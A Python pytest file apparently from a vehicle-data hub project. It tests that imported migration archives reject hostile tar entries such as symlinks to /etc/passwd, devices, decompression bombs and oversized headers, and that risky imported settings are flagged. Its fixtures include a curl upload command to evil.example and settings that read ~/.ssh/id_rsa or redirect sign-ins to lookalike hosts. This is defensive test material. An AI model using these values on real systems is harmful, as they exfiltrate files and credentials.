"""A move file that somebody else made: no more comes out than is in it, and nothing runs or leads elsewhere unasked."""

import gzip
import io
import os
import sqlite3
import stat
import tarfile
import tomllib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.hub.safekeeping.conftest import names_in
from tests.hub.safekeeping.test_moving import NAME, arrive, furnish, leave

from bimmerhub.errors import StoreError
from bimmerhub.hub.safekeeping import move_contents, move_settings, move_unpacking
from bimmerhub.hub.safekeeping.move_settings import WHOLE_FILE, Risk, find_risks, without
from bimmerhub.hub.safekeeping.move_unpacking import UnpackedMove, unpack

ABOUT = b'{"id":"1","made_at_ms":1,"came_from":"there","version":"1","accounts":[],"variables":[]}'

Change = Callable[[tarfile.TarFile], None]


def add_all(tar: tarfile.TarFile, *names: str) -> None:
    for name in names:
        add(tar, name)


def add(tar: tarfile.TarFile, name: str, content: bytes = b"x", **fields: Any) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(content)
    for field, value in fields.items():
        setattr(info, field, value)
    tar.addfile(info, io.BytesIO(content))


def unpacked(tmp_path: Path, change: Change, *, pack: Callable[[bytes], bytes] = bytes) -> UnpackedMove:
    """Unpack an archive that is whole but for what `change` adds."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        add(tar, "move.json", ABOUT)
        change(tar)
        add(tar, "database.sqlite3")
    (tmp_path / "archive").write_bytes(pack(raw.getvalue()))
    return unpack(tmp_path / "archive", tmp_path / "folder", database=tmp_path / NAME)


def sparse(tar: tarfile.TarFile) -> None:
    add(tar, "files/sparse", b"", pax_headers={"GNU.sparse.map": "0,0", "GNU.sparse.size": str(10**15)})


HOSTILE: dict[str, Change] = {
    "a link": lambda tar: add(tar, "files/link", b"", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
    "a second name": lambda tar: add(tar, "files/link", b"", type=tarfile.LNKTYPE, linkname="move.json"),
    "a device": lambda tar: add(tar, "files/null", b"", type=tarfile.CHRTYPE),
    "a folder": lambda tar: add(tar, "files/folder", b"", type=tarfile.DIRTYPE),
    "a hole of 10^15 bytes": sparse,
    "a long header": lambda tar: add(tar, "files/long", pax_headers={"comment": "x" * 2_000_000}),
    "a header of 100 KB": lambda tar: add(tar, "files/long", pax_headers={"comment": "x" * 100_000}),
    "a negative size": lambda tar: add(tar, "files/negative", pax_headers={"size": "-512"}),
    "a larger size": lambda tar: add(tar, "files/larger", pax_headers={"size": str(10**15)}),
    "twice the same": lambda tar: add_all(tar, "files/a", "files/a"),
    "a file as a folder": lambda tar: add_all(tar, "files/a", "files/a/b"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_our_own_files_never_have_is_refused(tmp_path: Path, case: str) -> None:
    with pytest.raises(StoreError):
        unpacked(tmp_path, HOSTILE[case])
    assert sum(path.stat().st_size for path in tmp_path.rglob("*")) < 5_000_000


def test_a_compressed_archive_is_none(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="damaged"):
        unpacked(tmp_path, lambda tar: add(tar, "files/zeros", bytes(30_000_000)), pack=gzip.compress)


def test_too_many_files_are_refused_on_both_ways(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(move_contents, "MOST_FILES", 3)
    monkeypatch.setattr(move_unpacking, "MOST_FILES", 3)
    with pytest.raises(StoreError, match="more than 3 files"):
        unpacked(tmp_path, lambda tar: add_all(tar, *(f"files/{number}" for number in range(9))))
    with pytest.raises(StoreError, match="more than 3 files"):
        leave(furnish(tmp_path / "old"), tmp_path / "file")


OF_A_PROCESS = (
    "lock", "LOCK", "hub.json", "moved.json", "moved-here.json", "backups.json", "emulator/keys", f"{NAME}-wal",
    f"{NAME}-journal", f"{NAME.upper()}-JOURNAL", f"{NAME}.restore-note", f"{NAME}.damaged-1", "x.lock",
    ".bimmerhub-1-x/a", "a\nb",
)  # fmt: skip


def test_what_a_process_has_for_itself_is_left_out_and_named(tmp_path: Path) -> None:
    names = [f"files/{name}" for name in OF_A_PROCESS]
    outcome = unpacked(tmp_path, lambda tar: add_all(tar, *names, "files/good", "other"))
    assert set(outcome.left_out) == {*names, "other"}
    assert names_in(tmp_path / "folder" / "files") == {"good"}


def test_what_comes_out_is_its_owners_alone_whatever_the_file_says(tmp_path: Path) -> None:
    unpacked(tmp_path, lambda tar: add(tar, "files/images/picture", mode=0o4777, uid=12345))
    for path in (tmp_path / "folder").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600)
        assert path.stat().st_uid == os.getuid()


RISKY = {
    'backup.put_command = "curl -T {file} https://evil.example/{name}"': "backup",
    '[backup]\ndirectory = "/shared"': "backup",
    '[accounts.home]\nclient_id = "x"\nsign_in_host = "evil.example"': "accounts.home",
    '[accounts.home]\nhost = "https://evil.example/bmw.com"': "accounts.home",
    '[accounts.home]\nhost = "https://user@bmwgroup.com@evil.example"': "accounts.home",
    '[accounts.home]\nrelay_host = "10.0.0.1"': "accounts.home",
    '[bmw]\nauth_url = "https://bmwgroup.com.evil.example"': "bmw",
    '[bmw]\nca_file = "/their/ca.pem"': "bmw",
    '[accounts.home]\nrelay_host = "127.0.0.1"\nrelay_port = 18799': "accounts.home",
    '[accounts.home]\nrelay_password = "file:/etc/evil"': "accounts.home",
    '[accounts.home]\nusername = "env:EVIL"': "accounts.home",
    '[accounts.home]\nbrands = ["bmw", "file:/etc/evil"]': "accounts.home",
    '[accounts.home]\nclient_secret = "evil"': "accounts.home",
    '[accounts.home]\nclient_key = "evil"': "accounts.home",
    '[accounts.home]\nsubscription_key = "evil"': "accounts.home",
    '[bmw]\napi_url = "http://localhost:1"': "bmw",
    '[inventory]\npassword = "file:~/.ssh/evil"': "inventory",
    "[store]\nreadings_days = 1": "store",
    "[store]\npositions_days = 1": "store",
    '[hub]\nhost = "0.0.0.0"': "hub",
    '[hub]\nhost = "127.0.0.1"': "hub",
    '[hub]\ntrusted_proxies = ["0.0.0.0/0"]': "hub",
    '[lab]\nplain_http_hosts = ["evil.example"]': "lab",
    '[clock]\nfollow = "http://evil.example"': "clock",
    '[inventory]\nhost = "evil.example"\npassword = "file:~/.ssh/id_rsa"': "inventory",
    '[store]\npath = "/srv/other/.bashrc"': "store",
    'data_dir = "/srv/other"': "data_dir",
    "[rest]\nnot_known_yet = 1": "rest",
    '[a_later_table]\nruns = "x"': "a_later_table",
    "[rest.limit]\na.b = 1": "rest",
    "accounts = 1": "accounts",
    "no settings": WHOLE_FILE,
    "[backup]\nput_command = " + "[" * 5_000: WHOLE_FILE,
}


@pytest.mark.parametrize("text", RISKY)
def test_settings_that_run_a_program_or_lead_elsewhere_are_shown_and_their_table_goes(text: str) -> None:
    risks = find_risks(text.encode())
    assert {risk.table for risk in risks} == {RISKY[text]}
    rest = without(f"{text}\n".encode(), risks)
    assert rest is None or (find_risks(rest) == [] and "evil" not in rest.decode())


@pytest.mark.parametrize(
    "text",
    [
        "[hub]\nport = 8099\n[rest]\nrefresh_h = 0\n[backup]\nevery_h = 12",
        '[accounts.home]\nclient_id = "x"\nhost = "https://cocoapi.bmwgroup.com"\n[store]\njournal_days = 7',
        '[accounts.home]\nfamily = "mybmw"\nhost = "emulator.example:8443"',
        "",
    ],
)
def test_harmless_settings_are_not_asked_about(text: str) -> None:
    assert find_risks(text.encode(), trusted_hosts={"emulator.example"}) == []


def test_what_a_setting_reads_or_erases_is_said() -> None:
    text = '[accounts.home]\nrelay_host = "127.0.0.1"\nrelay_password = "file:/any/file"\n[store]\nreadings_days = 1'
    assert [risk.words for risk in find_risks(text.encode())] == [
        '[accounts.home] relay_host = "127.0.0.1" (what is sent goes there)',
        '[accounts.home] relay_password = "file:/any/file" (reads a file of yours)',
        "[store] readings_days = 1 (older history is erased)",
    ]


VALUES = st.one_of(st.text(), st.integers(), st.booleans(), st.floats(allow_nan=False), st.lists(st.text(), max_size=3))
TREES = st.dictionaries(
    st.text(min_size=1),
    st.one_of(VALUES, st.dictionaries(st.text(), st.one_of(VALUES, st.dictionaries(st.text(), VALUES)), max_size=4)),
    max_size=4,
)


@given(TREES)
def test_what_is_left_of_settings_reads_as_before(tree: dict[str, Any]) -> None:
    written = "".join(move_settings._toml(tree, ()))
    assert tomllib.loads(written) == tree
    left_out = next(iter(tree), "none")
    rest = without(written.encode(), [Risk(table=left_out, words="")])
    assert (tomllib.loads(rest.decode()) if rest else {}) == {
        key: value for key, value in tree.items() if key != left_out
    }


def hostile(tmp_path: Path) -> Path:
    """Return a move file whose settings run a program, and in whose history a sign-in leads elsewhere."""
    old = furnish(tmp_path / "old")
    with closing(sqlite3.connect(old / NAME)) as connection:
        for name, host in (("home", "customer.bmwgroup.com"), ("far", "evil.example")):
            connection.execute(
                "INSERT INTO accounts (name, family, client_id, sealed_tokens) VALUES (?, 'cardata', '', x'00')",
                (name,),
            )
            place = f'{{"api_url":"https://{host}","auth_url":"https://{host}","is_bmws":true}}'
            connection.execute("INSERT INTO settings VALUES (?, ?, 0)", (f"signed_in_at.{name}", place))
        connection.commit()
    (tmp_path / "config.toml").write_text('[hub]\nport = 8099\n[backup]\ndirectory = "/b"\npassphrase = "env:P"\n')
    leave(old, tmp_path / "file")
    return tmp_path / "file"


def signed_in(folder: Path) -> list[str]:
    with closing(sqlite3.connect(folder / NAME)) as connection:
        names = connection.execute("SELECT name FROM accounts WHERE sealed_tokens IS NOT NULL ORDER BY name")
        places = connection.execute("SELECT key FROM settings WHERE key LIKE 'signed_in_at.%' ORDER BY key")
        accounts, keys = [name for (name,) in names], [key.removeprefix("signed_in_at.") for (key,) in places]
    assert accounts == keys
    return accounts


def test_without_agreement_neither_its_settings_nor_its_far_sign_ins_come(tmp_path: Path) -> None:
    arrived = arrive(hostile(tmp_path), tmp_path / "new")
    assert arrived.config is not None
    assert tomllib.loads(arrived.config.read_text()) == {"hub": {"port": 8099}}
    assert arrived.aside is not None
    assert "passphrase" in arrived.aside.read_text()
    assert signed_in(tmp_path / "new") == ["home"]


def test_with_agreement_all_comes_as_it_was(tmp_path: Path) -> None:
    arrived = arrive(hostile(tmp_path), tmp_path / "new", is_trusted=True)
    assert arrived.config is not None
    assert arrived.config.read_text() == (tmp_path / "config.toml").read_text()
    assert arrived.aside is None
    assert signed_in(tmp_path / "new") == ["far", "home"]
